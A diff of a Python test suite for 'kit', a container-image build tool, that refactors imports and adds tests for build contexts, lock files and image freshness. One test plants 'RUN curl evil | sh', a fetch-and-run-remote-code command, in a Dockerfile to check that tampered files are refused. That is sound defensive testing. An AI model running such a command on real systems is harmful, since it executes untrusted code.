@@ -1,6 +1,10 @@
 import dataclasses
 import json
 import os
+import re
+import shutil
+import subprocess
+import sys
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -9,9 +13,16 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from kit import base as base_module
-from kit import build, paths
-from kit.build import BuildOptions, ChosenBase, bases
+from kit import paths
+from kit.build import bases
+from kit.build.bases import choose_base
+from kit.build.context import STEP_SCRIPTS, kit_context
+from kit.build.failure import build_error
+from kit.build.images import build
+from kit.build.inputs import current, fingerprint, read_inputs
+from kit.build.model import SILENT, BuildOptions, ChosenBase, Progress
 from kit.build.podman import for_podman
+from kit.build.transfer import push_image
 from kit.buildlog import BuildLog, PodmanLog
 from kit.engine.podman import HINTS
 from kit.errors import (
@@ -24,7 +35,9 @@ from kit.errors import (
     NetworkError,
     UnlockedError,
 )
+from kit.locks.format import parse_requirements, split_layers
 from kit.network import NetworkSettings
+from tests.conftest import REPOSITORY
 from tests.fake_docker import info
 
 RECORDED = Path(__file__).parent / "data/buildx"
@@ -76,7 +89,7 @@ def build_args(fake_docker):
 
 
 def run_build(project, engine, **options):
-    return build.build(project.catalog, project.image, engine, BuildOptions(**options))
+    return build(project.catalog, project.image, engine, BuildOptions(**options))
 
 
 # -- what an image is built from
@@ -85,24 +98,24 @@ def run_build(project, engine, **options):
 @given(st.lists(st.text(), min_size=3, max_size=3), st.integers(0, 2), st.text(min_size=1))
 def test_the_fingerprint_changes_with_each_input(parts, which, more):
     other = [part + more if i == which else part for i, part in enumerate(parts)]
-    assert build.fingerprint(*parts) == build.fingerprint(*parts)
-    assert build.fingerprint(*parts) != build.fingerprint(*other)
+    assert fingerprint(*parts) == fingerprint(*parts)
+    assert fingerprint(*parts) != fingerprint(*other)
 
 
 def test_the_fingerprint_tells_where_one_input_ends():
-    assert build.fingerprint("ab", "c", "") != build.fingerprint("a", "bc", "")
+    assert fingerprint("ab", "c", "") != fingerprint("a", "bc", "")
 
 
-@pytest.mark.parametrize("name", build.STEP_SCRIPTS)
+@pytest.mark.parametrize("name", STEP_SCRIPTS)
 def test_the_fingerprint_changes_with_the_scripts_of_the_steps(project, name):
-    before = build.fingerprint("a", "b", "c")
+    before = fingerprint("a", "b", "c")
     script = paths.templates_dir() / name
     script.write_text(script.read_text() + "true\n")
-    assert build.fingerprint("a", "b", "c") != before
+    assert fingerprint("a", "b", "c") != before
 
 
 def test_inputs_are_read_when_they_agree(project):
-    inputs = build.read_inputs(project.catalog, project.image)
+    inputs = read_inputs(project.catalog, project.image)
     assert inputs.dockerfile == (project.folder / "Dockerfile").read_text()
     assert "tensorflow==2.21.0" in inputs.lock.requirements
 
@@ -111,7 +124,7 @@ def test_a_dockerfile_edited_by_hand_is_not_built(project):
     file = project.folder / "Dockerfile"
     file.write_text(file.read_text() + "RUN curl evil | sh\n")
     with pytest.raises(LockError, match="is not what the templates and the catalog say") as caught:
-        build.read_inputs(project.catalog, project.image)
+        read_inputs(project.catalog, project.image)
     assert "kit render tf-cpu" in caught.value.hint
 
 
@@ -119,7 +132,7 @@ def test_a_lock_edited_by_hand_is_not_built(project):
     file = project.folder / "requirements.lock"
     file.write_text(file.read_text().replace("2.21.0", "2.20.0"))
     with pytest.raises(LockError, match="its hash is not the one") as caught:
-        build.read_inputs(project.catalog, project.image)
+        read_inputs(project.catalog, project.image)
     assert "kit lock tf-cpu" in caught.value.hint
 
 
@@ -127,7 +140,7 @@ def test_a_lock_of_another_catalog_is_not_built(project):
     file = project.folder / "lock.json"
     file.write_text(json.dumps(json.loads(file.read_text()) | {"inputs_hash": "sha256:0"}))
     with pytest.raises(LockError, match="the lock of tf-cpu is stale") as caught:
-        build.read_inputs(project.catalog, project.image)
+        read_inputs(project.catalog, project.image)
     assert "kit lock tf-cpu" in caught.value.hint
 
 
@@ -135,7 +148,7 @@ def test_an_image_without_a_lock_is_not_built(project):
     file = project.folder / "lock.json"
     file.write_text(json.dumps(json.loads(file.read_text()) | {"unlocked": "the index cannot be reached"}))
     with pytest.raises(UnlockedError, match="the index cannot be reached"):
-        build.read_inputs(project.catalog, project.image)
+        read_inputs(project.catalog, project.image)
 
 
 # -- the build
@@ -151,8 +164,56 @@ def test_a_build_names_its_base_and_carries_what_it_was_built_from_as_labels(pro
     assert f"--label=kit.fingerprint={built.fingerprint}" in args
     assert f"--label=kit.base-identity={reference}" in args
     assert "--label=kit.base-source=registry" in args
-    assert args[-1] == str(project.folder)
     assert "--progress=rawjson" in args
+
+
+@pytest.mark.parametrize("name", ["tf-cpu", "torch2.14-cu130-devel"])
+def test_a_build_gets_the_dockerfile_and_the_whole_lock(catalog, engine, buildx, monkeypatch, name):
+    """Of a lock with a parent too: the Dockerfile copies one file, which its own folder has a part of."""
+    given = {}
+    stream = engine.stream
+
+    def look(args, on_line):
+        if "build" in args:
+            given.update({file.name: file.read_text() for file in Path(args[-1]).iterdir()})
+        return stream(args, on_line)
+
+    monkeypatch.setattr(engine, "stream", look)
+    image = catalog.find(name)
+    build(catalog, image, engine, BuildOptions())
+    inputs = read_inputs(catalog, image)
+    assert given == {"Dockerfile": inputs.dockerfile, "requirements.lock": inputs.lock.requirements}
+    assert not Path(build_args(buildx)[-1]).exists(), "gone when the build is over"
+
+
+def test_the_dockerfiles_build_without_kit_as_contributing_says(catalog, engine, buildx, tmp_path, monkeypatch):
+    """A plain `docker build` gives the steps the same files, and what kit gives besides has a default or is a label."""
+    text = (REPOSITORY / "CONTRIBUTING.md").read_text()
+    script = next(block for block in re.findall(r"(?ms)^```sh\n(.*?)^```", text) if "docker build " in block)
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}:{os.environ['PATH']}")
+    subprocess.run(["bash", "-euo", "pipefail", "-c", script], cwd=REPOSITORY, check=True)
+    by_hand = [call.args for call in buildx.called("build")]
+    assert [args[-2] for args in by_hand] == ["torch2.7-cu126", "torch2.7-cu126-devel"]
+    for args in by_hand:
+        image = catalog.find(args[-2])
+        inputs = read_inputs(catalog, image)
+        build(catalog, image, engine, BuildOptions())
+        by_kit = buildx.called("buildx", "build")[-1].args
+        contexts = [a.removeprefix("--build-context=") for a in by_kit if a.startswith("--build-context")]
+        assert [c.partition("=")[0] for c in contexts] == ["kit"]
+        theirs = Path(args[args.index("--build-context") + 1].removeprefix("kit="))
+        for file in Path(contexts[0].removeprefix("kit=")).iterdir():
+            assert (theirs / file.name).read_bytes() == file.read_bytes()
+            assert os.access(theirs / file.name, os.X_OK) == os.access(file, os.X_OK)
+        folder = REPOSITORY / args[-1]
+        assert (folder / "Dockerfile").read_text() == inputs.dockerfile
+        layers = split_layers((folder / "requirements.lock").read_text())
+        assert {name: parse_requirements(text) for name, text in layers.items()} == {
+            name: parse_requirements(text) for name, text in inputs.lock.layers.items()
+        }
+        for argument in (a.removeprefix("--build-arg=") for a in by_kit if a.startswith("--build-arg=")):
+            assert f"ARG {argument}\n" in inputs.dockerfile
 
 
 def test_layers_are_zstd_where_the_store_has_it(project, engine, buildx):
@@ -207,18 +268,18 @@ def test_uv_and_the_scripts_are_a_context_that_is_made_once(project, engine, bui
     folder = Path(context.removeprefix("--build-context=kit="))
     assert sorted(f.name for f in folder.iterdir()) == ["begin.sh", "end.sh", "uv"]
     assert os.access(folder / "uv", os.X_OK)
-    assert build.kit_context() == folder
+    assert kit_context() == folder
     assert [f.name for f in folder.parent.iterdir()] == [folder.name], "nothing half made beside it"
 
 
 def test_steps_are_reported_as_they_finish(project, engine, buildx):
     finished = []
-    build.build(
+    build(
         project.catalog,
         project.image,
         engine,
         BuildOptions(),
-        build.Progress(message=print, log=lambda _log, steps: finished.extend(steps)),
+        Progress(message=print, log=lambda _log, steps: finished.extend(steps)),
     )
     assert "exporting to image" in [step.title for step in finished]
 
@@ -243,13 +304,32 @@ def built_image(project, engine, buildx):
 
 
 def is_current(project, engine, **options):
-    return build.current(project.catalog, project.image, engine, BuildOptions(**options)) is not None
+    return current(project.catalog, project.image, engine, BuildOptions(**options)) is not None
 
 
 def test_an_image_that_is_up_to_date_is_not_built_again(project, engine, buildx, built_image):
     built = run_build(project, engine)
     assert (built.is_new, built.fingerprint) == (False, built_image["kit.fingerprint"])
     assert len(buildx.called("buildx", "build")) == 1, "the one of the fixture"
+
+
+def test_an_image_is_out_of_date_when_its_parents_lock_changes(project, engine, buildx):
+    image = project.catalog.find("torch2.14-cu130-devel")
+    for name in (image.name, image.release.name):
+        shutil.copytree(REPOSITORY / "images" / name, project.root / "images" / name)
+    folder = project.root / "images" / image.name
+    inputs = read_inputs(project.catalog, image)
+    identity = project.catalog.base_for(image).reference
+    mark = fingerprint(inputs.dockerfile, inputs.lock.requirements, identity)
+    labels = {"kit.fingerprint": mark, "kit.base-identity": identity, "kit.base-source": "registry"}
+    buildx.reply("image", "inspect", stdout=json.dumps(labels))
+    assert current(project.catalog, image, engine, BuildOptions()).fingerprint == mark
+    assert len((folder / "requirements.lock").read_text().splitlines()) < 30, "it holds what it adds"
+    parent = project.root / "images" / image.release.name / "requirements.lock"
+    parent.write_text(parent.read_text() + "# more\n")
+    assert current(project.catalog, image, engine, BuildOptions()) is None
+    parent.unlink()
+    assert current(project.catalog, image, engine, BuildOptions()) is None
 
 
 @pytest.mark.parametrize("options", [{"force": True}, {"no_cache": True}])
@@ -300,7 +380,7 @@ def test_a_base_the_image_no_longer_has_is_out_of_date_even_with_a_right_fingerp
     project, engine, buildx, built_image
 ):
     identity = "archive:stretch"
-    mark = build.fingerprint(
+    mark = fingerprint(
         (project.folder / "Dockerfile").read_text(), (project.folder / "requirements.lock").read_text(), identity
     )
     buildx.reply(
@@ -313,8 +393,8 @@ def test_a_base_the_image_no_longer_has_is_out_of_date_even_with_a_right_fingerp
 
 
 def choose(project, engine, said=None, image=None, **options):
-    progress = build.SILENT if said is None else build.Progress(message=said.append, log=lambda *_: None)
-    return build.choose_base(project.catalog, image or project.image, engine, BuildOptions(**options), progress)
+    progress = SILENT if said is None else Progress(message=said.append, log=lambda *_: None)
+    return choose_base(project.catalog, image or project.image, engine, BuildOptions(**options), progress)
 
 
 def test_auto_takes_the_registry_when_it_answers(project, engine, buildx, archive):
@@ -392,7 +472,7 @@ def test_an_image_that_takes_cuda_from_its_base_cannot_do_without_a_registry(pro
 
 
 def test_a_failed_step_is_named_with_its_last_lines_only():
-    error = build.build_error("tf-cpu", log_of("fail"), 1)
+    error = build_error("tf-cpu", log_of("fail"), 1)
     assert type(error) is BuildFailedError
     assert error.message.startswith('the build of tf-cpu failed in the step "[2/2] for i in')
     assert error.details == tuple(f"line {n} of the output" for n in range(46, 61))
@@ -400,7 +480,7 @@ def test_a_failed_step_is_named_with_its_last_lines_only():
 
 
 def test_a_full_disk_is_told_apart_from_a_failed_step():
-    error = build.build_error("x", log_of("full"), 1)
+    error = build_error("x", log_of("full"), 1)
     assert type(error) is DiskFullError
     assert error.details == ("cp: error writing '/scratch/a': No space left on device",)
     assert "prune" in error.hint
@@ -421,11 +501,11 @@ def test_a_full_disk_at_the_export_too():
             }
         )
     )
-    assert type(build.build_error("x", log, 1)) is DiskFullError
+    assert type(build_error("x", log, 1)) is DiskFullError
 
 
 def test_a_base_that_is_not_there():
-    error = build.build_error("x", log_of("missing"), 1)
+    error = build_error("x", log_of("missing"), 1)
     assert type(error) is BaseNotFoundError
     assert "kit update" in error.hint
     assert "12.6.3-base-ubuntu24.04: not found" in error.details[0]
@@ -433,7 +513,7 @@ def test_a_base_that_is_not_there():
 
 @pytest.mark.parametrize("name", ["refused", "hub"])
 def test_a_registry_that_cannot_be_reached_is_a_network_error(name):
-    error = build.build_error("x", log_of(name), 1)
+    error = build_error("x", log_of(name), 1)
     assert type(error) is NetworkError
     assert "--registry-mirror" in error.hint
 
@@ -443,13 +523,13 @@ def test_not_found_in_a_step_is_not_a_missing_base(command):
     log = BuildLog()
     log.feed(json.dumps({"vertexes": [{"digest": "a", "name": f"[3/9] RUN {command}", "error": "exit code: 127"}]}))
     log.feed(json.dumps({"logs": [{"vertex": "a", "data": "c2g6IDE6IHV2OiBub3QgZm91bmQK"}]}))
-    error = build.build_error("x", log, 1)
+    error = build_error("x", log, 1)
     assert type(error) is BuildFailedError
     assert error.details == ("sh: 1: uv: not found",)
 
 
 def test_a_failure_without_a_step_shows_what_buildx_said():
-    error = build.build_error("x", log_of("syntax"), 1)
+    error = build_error("x", log_of("syntax"), 1)
     assert type(error) is BuildFailedError
     assert "exit code 1" in error.message
     assert "unknown instruction: RUNN" in error.details[-1]
@@ -457,7 +537,7 @@ def test_a_failure_without_a_step_shows_what_buildx_said():
 
 
 def test_a_failure_with_no_words_at_all():
-    error = build.build_error("x", BuildLog(), 137)
+    error = build_error("x", BuildLog(), 137)
     assert error.message == "the build of x failed with exit code 137"
     assert error.details == ()
 
@@ -476,7 +556,7 @@ def podman_error(name, code=125):
     log = PodmanLog()
     for line in (RECORDED.parent / f"podman/{name}.txt").read_text().splitlines():
         log.feed(line)
-    return build.build_error("tf-cpu", log, code, hints=HINTS)
+    return build_error("tf-cpu", log, code, hints=HINTS)
 
 
 def test_a_failed_step_of_podman_is_named_with_its_last_lines_only():
@@ -504,9 +584,9 @@ def test_a_registry_that_podman_cannot_reach():
 
 
 def test_podman_is_told_what_a_step_mounts(project, tmp_path):
-    for name in ("uv", *build.STEP_SCRIPTS):
+    for name in ("uv", *STEP_SCRIPTS):
         (tmp_path / name).write_text(name)
-    inputs = build.read_inputs(project.catalog, project.image)
+    inputs = read_inputs(project.catalog, project.image)
     layers = dict(inputs.lock.layers)
 
     def steps():
@@ -530,7 +610,7 @@ def test_podman_is_told_what_a_step_mounts(project, tmp_path):
 
 def test_push_tags_and_pushes(project, engine, buildx):
     built = run_build(project, engine)
-    assert build.push(engine, built, "registry.example/me/") == "registry.example/me/tf-cpu:latest"
+    assert push_image(engine, built, "registry.example/me/") == "registry.example/me/tf-cpu:latest"
     assert buildx.called("tag")[0].args == ["tag", "kit/tf-cpu:latest", "registry.example/me/tf-cpu:latest"]
     assert buildx.called("push")[0].args == ["push", "registry.example/me/tf-cpu:latest"]
 
@@ -539,7 +619,7 @@ def test_a_push_that_is_refused_says_to_log_in(project, engine, buildx):
     built = run_build(project, engine)
     buildx.reply("push", stdout="unauthorized: authentication required\n", code=1)
     with pytest.raises(BuildFailedError, match="could not be pushed") as caught:
-        build.push(engine, built, "registry.example/me")
+        push_image(engine, built, "registry.example/me")
     assert caught.value.details == ("unauthorized: authentication required",)
     assert "docker login registry.example" in caught.value.hint
 
